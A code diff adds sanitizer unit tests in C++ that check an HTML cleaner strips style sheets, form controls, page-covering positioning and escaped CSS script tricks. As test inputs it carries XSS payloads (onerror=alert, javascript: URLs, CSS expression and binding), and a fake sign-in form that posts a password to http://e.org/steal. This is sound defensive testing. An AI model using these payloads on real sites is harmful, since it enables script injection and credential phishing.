@@ -76,17 +76,61 @@ TEST(DisplayMarkup, WholeDocumentGivesItsBodyAndBrokenMarkupComesOutBalanced) {
 }
 
 TEST(DisplayMarkup, TextCannotTurnIntoMarkupWhenReadAgain) {
-    // A style sheet that could end its element early in another reading is dropped; one
-    // without "<" stays as written, child selectors included.
-    EXPECT_EQ(safeMarkupUtf8("<p>x</p><style>a > b { color: red }</style>"),
-              "<p>x</p><style>a > b { color: red }</style>");
-    EXPECT_EQ(safeMarkupUtf8("<p>x</p><style>p{}<img src=x onerror=alert(1)></style>"), "<p>x</p>");
     const std::string nested = safeMarkupUtf8(
         "<p title=\"</noscript><img src=x onerror=alert(1)>\">t</p>"
         "<xmp><script>alert(1)</script></xmp>");
     EXPECT_FALSE(contains(nested, "<img")) << nested;
     EXPECT_FALSE(contains(nested, "<script")) << nested;
     EXPECT_TRUE(contains(nested, "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>")) << nested;
+}
+
+TEST(DisplayMarkup, StyleSheetsAndFormControlsCannotReachThePageAroundTheClip) {
+    const std::string out = safeMarkupUtf8(
+        "<style>nav{display:none} h1:after{content:'x'} @import url(http://e.org/a.css);"
+        "body{background:url(http://e.org/t.png)}</style>"
+        "<svg><style>circle{fill:red}</style><circle r='1'/></svg>"
+        "<form action='http://e.org/steal' method=post><p>Sign in again</p>"
+        "<label>Password <input type=password name=p></label><button>Go</button>"
+        "<select name=s><optgroup><option>one</option></optgroup></select>"
+        "<textarea>typed</textarea><keygen name=k><datalist><option value=d></datalist>"
+        "<fieldset><legend>More</legend>kept</fieldset></form>");
+    for (const char* gone :
+         {"<style", "nav{", "@import", "e.org", "<form", "<input", "<button", "Go<", "<select",
+          "<option", "one", "<textarea", "typed", "keygen", "datalist"})
+        EXPECT_FALSE(contains(out, gone)) << gone << " in " << out;
+    EXPECT_TRUE(contains(out, "<p>Sign in again</p><label>Password </label>")) << out;
+    EXPECT_TRUE(contains(out, "<fieldset><legend>More</legend>kept</fieldset>")) << out;
+    EXPECT_TRUE(contains(out, "<circle r=\"1\" />")) << out;
+}
+
+TEST(DisplayMarkup, NothingIsLaidOverThePageHoweverThePositionIsSpelt) {
+    EXPECT_EQ(safeMarkupUtf8("<div style='position:fixed;top:0;left:0;width:100%;"
+                             "height:100%;background:white'>x</div>"),
+              "<div style=\"top:0;left:0;width:100%;height:100%;background:white\">x</div>");
+    for (const char* style : {"POSITION: ABSOLUTE !important", "posi\\74ion: f\\69xed",
+                              "position:/**/absolute", "position : fixed", "position:\\66ixed"}) {
+        const std::string out =
+            safeMarkupUtf8(std::string("<p style='color:red;") + style + "'>x</p>");
+        EXPECT_EQ(out, "<p style=\"color:red\">x</p>") << style;
+    }
+    // Positions that keep the box in the flow stay, and the attribute stays as written.
+    EXPECT_EQ(safeMarkupUtf8("<p style='position: relative; top: 2px'>x</p>"),
+              "<p style=\"position: relative; top: 2px\">x</p>");
+    EXPECT_EQ(safeMarkupUtf8("<p style='position:fixed'>x</p>"), "<p>x</p>");
+    // A ";" inside a string does not end the declaration.
+    EXPECT_EQ(safeMarkupUtf8("<p style='font-family:\"a;position:fixed\"'>x</p>"),
+              "<p style=\"font-family:&quot;a;position:fixed&quot;\">x</p>");
+}
+
+TEST(DisplayMarkup, EscapedScriptsInStylesAreFoundAfterDecoding) {
+    for (const char* style :
+         {"width: exp\\72 ession(alert(1))", "width:\\65 xpression(alert(1))",
+          "width:e/**/xpression(alert(1))", "background:url(java\\73 cript:alert(1))",
+          "background:url('java\\9 script:alert(1)')", "behavio\\72:url(x.htc)",
+          "-moz-bind\\69ng:url(x.xml#y)"}) {
+        const std::string out = safeMarkupUtf8(std::string("<p style=\"") + style + "\">x</p>");
+        EXPECT_EQ(out, "<p>x</p>") << style;
+    }
 }
 
 TEST(DisplayMarkup, DeepNestingKeepsItsTextWithoutRecursingWithoutEnd) {
